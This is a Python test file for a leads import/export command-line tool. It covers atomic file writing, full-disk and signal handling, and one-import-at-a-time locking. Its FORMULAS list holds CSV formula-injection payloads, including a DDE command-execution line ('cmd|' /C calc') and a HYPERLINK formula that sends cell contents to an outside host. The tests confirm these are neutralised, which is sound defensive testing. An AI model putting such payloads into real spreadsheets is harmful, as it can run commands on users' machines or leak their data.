"""Files that are written: harmless, there whole or not at all, never lost, and one import's at a time."""

from __future__ import annotations

import csv
import functools
import json
import os
import resource
import signal
import time
from typing import TYPE_CHECKING

import pytest
from qince_leads.cli.cells import unwrapped
from qince_leads.cli.console import UserError
from qince_leads.cli.files import guarded, replacing

from .conftest import Cli
from .test_crashes import wait_for

if TYPE_CHECKING:
    from pathlib import Path

    from .conftest import Sandbox

SINCE = ("--create-time-start", "2020-01-01")
FORMULAS = [
    *(
        '=HYPERLINK("http://x/?"&A1,"甲")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1",
        "＝1+1",
    ),
    "+86-571-1",
]


def leads(number: int) -> str:
    return "cus_name,emp_name,code\n" + "".join(f"客户{n},张三,L{n:04}\n" for n in range(number))


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_excel_would_run_is_marked_and_read_back(formula: str) -> None:
    assert guarded(formula) == f"'{formula}"
    assert unwrapped(guarded(formula)) == formula


@pytest.mark.parametrize("text", ["", "甲", "-1", "+8613800138000", "+86 571 1", "-1.5", "a=b", "1+1", "13800138000"])
def test_what_excel_shows_as_it_is_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


def test_an_export_has_formulas_only_if_asked_to(quick_cli: Cli, sandbox: Sandbox) -> None:
    formula = FORMULAS[0]
    quick_cli.write("l.jsonl", json.dumps({"cus_name": formula, "emp_name": "乙", "code": "A1"}))
    assert quick_cli.run("import", "l.jsonl").code == 0
    for options, cell in (((), f"'{formula}"), (("--raw",), formula)):
        assert quick_cli.run("export", "out.csv", "--columns", "cus_name", *SINCE, *options).code == 0
        [row] = quick_cli.results("out.csv")
        assert row["cus_name"] == cell
        ran = quick_cli.run("export", "-", "--format", "csv", "--columns", "cus_name", *SINCE, *options)
        assert next(csv.reader([ran.out.splitlines()[1]])) == [cell]


def test_results_and_faults_have_no_formulas(quick_cli: Cli, sandbox: Sandbox) -> None:
    quick_cli.write("l.csv", "cus_name,emp_name,code,=1+1\n甲,乙,=A1,x\n")
    quick_cli.run("import", "l.csv")
    assert [fault["column"] for fault in quick_cli.results("l.csv.faults.csv")] == ["'=1+1"]
    assert quick_cli.run("import", "l.csv", "--ignore", "=1+1").code == 0
    assert [row["code"] for row in quick_cli.results("l.csv.result.csv")] == ["'=A1"]


def test_a_finished_file_that_cannot_take_its_place_is_kept_and_named(
    quick_cli: Cli, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    sandbox.ask("POST", "leads", {"count": 3, "family": "classic", "code_prefix": "S"})
    quick_cli.write("out.csv", "old")
    replace = os.replace

    def locked(source: Path, target: Path) -> None:
        if target.name == "out.csv":
            raise PermissionError(13, "Permission denied")
        replace(source, target)

    monkeypatch.setattr("os.replace", locked)
    ran = quick_cli.run("export", "out.csv", *SINCE)
    assert ran.code == 1
    assert "open in another program?" in ran.err
    [kept] = [path.name for path in quick_cli.folder.iterdir() if path.name != "out.csv"]
    assert kept in ran.err
    assert kept.endswith(".csv")
    assert len(quick_cli.results(kept)) == 3
    assert (quick_cli.folder / "out.csv").read_text() == "old"


def test_a_file_keeps_its_mode_and_the_link_to_it(tmp_path: Path) -> None:
    (tmp_path / "real").write_text("old")
    (tmp_path / "real").chmod(0o640)
    (tmp_path / "link").symlink_to("real")
    with replacing(tmp_path / "link") as beside:
        beside.write_text("new")
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "real").read_text() == "new"
    assert (tmp_path / "real").stat().st_mode & 0o777 == 0o640
    with pytest.raises(UserError, match="is a folder"), replacing(tmp_path):
        pass


@pytest.mark.parametrize("place", ["missing/r.csv", "folder"])
def test_a_result_that_cannot_be_written_is_said_before_anything_is_sent(
    quick_cli: Cli, sandbox: Sandbox, place: str
) -> None:
    (quick_cli.folder / "folder").mkdir()
    quick_cli.write("l.csv", leads(2))
    sandbox.ask("DELETE", "state")
    environment = Cli(quick_cli.folder, quick_cli.account)
    process = environment.start("import", "l.csv", "--result", place)
    err = process.communicate(timeout=60)[1].decode()
    assert process.returncode == 2
    assert "--result" in err
    assert "Traceback" not in err
    assert sandbox.leads() == []


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "jsonl", "parquet"])
def test_a_full_disk_ends_an_export_in_one_line_and_leaves_the_old_file(
    cli: Cli, sandbox: Sandbox, suffix: str
) -> None:
    sandbox.ask("POST", "leads", {"count": 1000, "family": "classic", "code_prefix": "S"})
    cli.write(f"out.{suffix}", "old")

    def little_room() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    process = cli.start("export", f"out.{suffix}", *SINCE, preexec_fn=little_room)
    err = process.communicate(timeout=60)[1].decode()
    assert process.returncode == 1
    assert "Traceback" not in err
    assert "File too large" in err.splitlines()[-1]
    assert (cli.folder / f"out.{suffix}").read_text() == "old"
    assert {path.name for path in cli.folder.iterdir()} == {f"out.{suffix}", f".out.{suffix}.export"}
    assert cli.run("export", f"out.{suffix}", *SINCE).code == 0
    assert [path.name for path in cli.folder.iterdir()] == [f"out.{suffix}"]


def test_a_disk_that_is_full_at_the_end_of_an_import_loses_no_outcome(
    quick_cli: Cli, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    quick_cli.write("l.csv", leads(3))

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr("qince_leads.cli.report.write_csv", full)
        ran = quick_cli.run("import", "l.csv")
    assert ran.code == 1
    assert "l.csv.result.csv cannot be written: No space left on device; run the same command again for it" in ran.err
    assert "added" in ran.err
    ran = quick_cli.run("import", "l.csv")
    assert ran.code == 0
    assert "3 of them by an earlier run" in ran.err
    assert len(quick_cli.results("l.csv.result.csv")) == 3
    assert len(sandbox.leads()) == 3


def test_a_file_is_imported_by_one_run_at_a_time_whatever_its_journal(cli: Cli, sandbox: Sandbox) -> None:
    cli.write("l.csv", "cus_name,emp_name\n" + "甲,乙\n" * 20)
    sandbox.plan_faults(rate=1, kinds=["slow"], slow_ms=300, operations=["add"])
    process = cli.start("import", "l.csv", "--workers", "2", "--journal", "one.jsonl")
    wait_for(cli, 1, process, journal="one.jsonl")
    ran = cli.run("import", "l.csv", "--journal", "two.jsonl")
    assert ran.code == 2
    assert "another import is using" in ran.err
    assert not (cli.folder / "two.jsonl").exists()
    assert process.wait(timeout=60) == 0
    process.communicate()
    ran = cli.run("import", "l.csv", "--journal", "two.jsonl")
    assert ran.code == 2
    assert "--journal one.jsonl" in ran.err
    assert len(sandbox.leads()) == 20
    assert cli.run("import", "l.csv", "--journal", "one.jsonl").code == 0
    assert len(sandbox.leads()) == 20


@pytest.mark.parametrize("asked", [signal.SIGTERM, signal.SIGHUP])
def test_whatever_asks_an_import_to_stop_is_as_ctrl_c(cli: Cli, sandbox: Sandbox, asked: signal.Signals) -> None:
    cli.write("l.csv", leads(60))
    sandbox.plan_faults(rate=1, kinds=["slow"], slow_ms=100, operations=["add"])
    process = cli.start("import", "l.csv")
    wait_for(cli, 10, process)
    process.send_signal(asked)
    err = process.communicate(timeout=20)[1].decode()
    assert process.returncode == 130
    assert "run the same command again to go on" in err
    assert "not sent" in err
    assert "Traceback" not in err
    sandbox.behave()
    assert cli.run("import", "l.csv").code == 0
    assert len(sandbox.leads()) == 60


@pytest.mark.parametrize("asked", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_an_export_that_is_stopped_leaves_no_half_file(cli: Cli, sandbox: Sandbox, asked: signal.Signals) -> None:
    sandbox.ask("POST", "leads", {"count": 50, "family": "classic", "code_prefix": "S"})
    sandbox.plan_faults(rate=1, kinds=["slow"], slow_ms=300)
    process = cli.start("export", "out.csv", "--page-size", "1", *SINCE)
    deadline = time.monotonic() + 20
    while not list(cli.folder.glob(".out.csv.*.part")):
        assert time.monotonic() < deadline
        time.sleep(0.02)
    process.send_signal(asked)
    err = process.communicate(timeout=20)[1].decode()
    assert process.returncode == 130
    assert err.splitlines()[-1] == "stopped as asked"
    assert "Traceback" not in err
    # What was read by then, if anything was.
    assert {path.name for path in cli.folder.iterdir()} <= {".out.csv.export"}


def test_what_is_started_by_nohup_goes_on(cli: Cli, sandbox: Sandbox) -> None:
    cli.write("l.csv", leads(20))
    sandbox.plan_faults(rate=1, kinds=["slow"], slow_ms=100, operations=["add"])
    deaf = functools.partial(signal.signal, signal.SIGHUP, signal.SIG_IGN)
    process = cli.start("import", "l.csv", "--workers", "2", preexec_fn=deaf)
    wait_for(cli, 2, process)
    process.send_signal(signal.SIGHUP)
    process.communicate(timeout=30)
    assert process.returncode == 0
    assert len(sandbox.leads()) == 20


def test_a_long_reading_says_how_far_it_is(bare_cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("qince_leads.cli.progress.EVERY", 0.0)
    bare_cli.write("l.csv", leads(200))
    ran = bare_cli.run("import", "l.csv", "--dry-run")
    assert "reading: 50, " in ran.err
    assert "reading: 200, " in ran.err
